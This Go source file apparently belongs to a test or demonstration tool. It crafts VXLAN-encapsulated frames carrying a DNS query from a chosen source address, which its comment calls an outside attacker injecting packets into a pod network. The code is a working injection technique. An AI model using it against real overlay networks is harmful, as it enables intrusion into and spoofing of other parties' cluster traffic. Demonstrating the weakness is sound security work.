package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"

	"golang.org/x/net/dns/dnsmessage"
)

// sendVXLANQuery sends, to the VXLAN endpoint args[0] with VNI args[1],
// an Ethernet frame to MAC args[2] carrying a UDP DNS query for args[5]
// from address args[3] to args[4]:53: what an attacker outside a pod
// network sends to inject a packet into it.
func sendVXLANQuery(args []string) error {
	vni, err := strconv.ParseUint(args[1], 10, 24)
	if err != nil {
		return fmt.Errorf("VNI: %w", err)
	}
	dstMAC, err := net.ParseMAC(args[2])
	if err != nil {
		return err
	}
	src, err := netip.ParseAddr(args[3])
	if err != nil {
		return err
	}
	dst, err := netip.ParseAddr(args[4])
	if err != nil {
		return err
	}
	query, err := dnsQuery(args[5])
	if err != nil {
		return err
	}
	conn, err := net.Dial("udp", args[0])
	if err != nil {
		return err
	}
	defer conn.Close()
	_, err = conn.Write(vxlanFrame(uint32(vni), dstMAC, ipv4UDP(src, dst, 40053, 53, query)))
	return err
}

func dnsQuery(name string) ([]byte, error) {
	n, err := dnsmessage.NewName(name)
	if err != nil {
		return nil, err
	}
	msg := dnsmessage.Message{Header: dnsmessage.Header{ID: 0x7e57, RecursionDesired: true},
		Questions: []dnsmessage.Question{{Name: n, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}}}
	return msg.Pack()
}

// vxlanFrame is the VXLAN header (RFC 7348: flags with the VNI bit, the
// VNI) and an Ethernet frame of an IPv4 packet to dstMAC.
func vxlanFrame(vni uint32, dstMAC net.HardwareAddr, packet []byte) []byte {
	b := make([]byte, 8, 8+14+len(packet))
	b[0] = 0x08
	binary.BigEndian.PutUint32(b[4:], vni<<8)
	b = append(b, dstMAC...)
	b = append(b, 0x02, 0x7e, 0x57, 0x00, 0x00, 0x01) // a locally administered source
	b = binary.BigEndian.AppendUint16(b, 0x0800)
	return append(b, packet...)
}

// ipv4UDP is an IPv4 packet of one UDP datagram (no UDP checksum, which
// IPv4 allows).
func ipv4UDP(src, dst netip.Addr, srcPort, dstPort uint16, payload []byte) []byte {
	udpLen := 8 + len(payload)
	h := make([]byte, 20, 20+udpLen)
	h[0] = 0x45
	binary.BigEndian.PutUint16(h[2:], uint16(20+udpLen))
	binary.BigEndian.PutUint16(h[4:], 0x7e57)
	h[6] = 0x40 // don't fragment
	h[8] = 64
	h[9] = 17
	s, d := src.As4(), dst.As4()
	copy(h[12:], s[:])
	copy(h[16:], d[:])
	binary.BigEndian.PutUint16(h[10:], checksum(h))
	h = binary.BigEndian.AppendUint16(h, srcPort)
	h = binary.BigEndian.AppendUint16(h, dstPort)
	h = binary.BigEndian.AppendUint16(h, uint16(udpLen))
	h = binary.BigEndian.AppendUint16(h, 0)
	return append(h, payload...)
}

// checksum is the Internet checksum (RFC 1071) of an IPv4 header.
func checksum(h []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(h); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(h[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}
